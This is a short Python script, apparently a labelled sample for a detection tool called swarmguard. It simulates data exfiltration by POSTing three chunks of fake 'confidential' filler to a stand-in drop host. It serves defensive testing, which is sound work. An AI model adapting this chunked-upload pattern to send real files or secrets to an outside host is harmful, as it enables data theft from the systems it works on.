#!/usr/bin/env python3
"""Sample: data exfiltration by HTTP POST (harmless, written for swarmguard).

It posts three 4 KiB chunks of fake "documents" to ``http://drop.exfil-http.example/upload``.
"""

# swarmguard-label: Infiltration

from __future__ import annotations

import urllib.request

URL = "http://drop.exfil-http.example/upload"


def main() -> None:
    """Post the chunks one by one."""
    for part in range(3):
        body = (f"part={part};" + "confidential-" * 400).encode()[:4096]
        req = urllib.request.Request(
            f"{URL}?part={part}", data=body, method="POST",
            headers={"Content-Type": "application/octet-stream"},
        )  # fmt: skip
        with urllib.request.urlopen(req, timeout=3) as resp:
            resp.read()


if __name__ == "__main__":
    main()
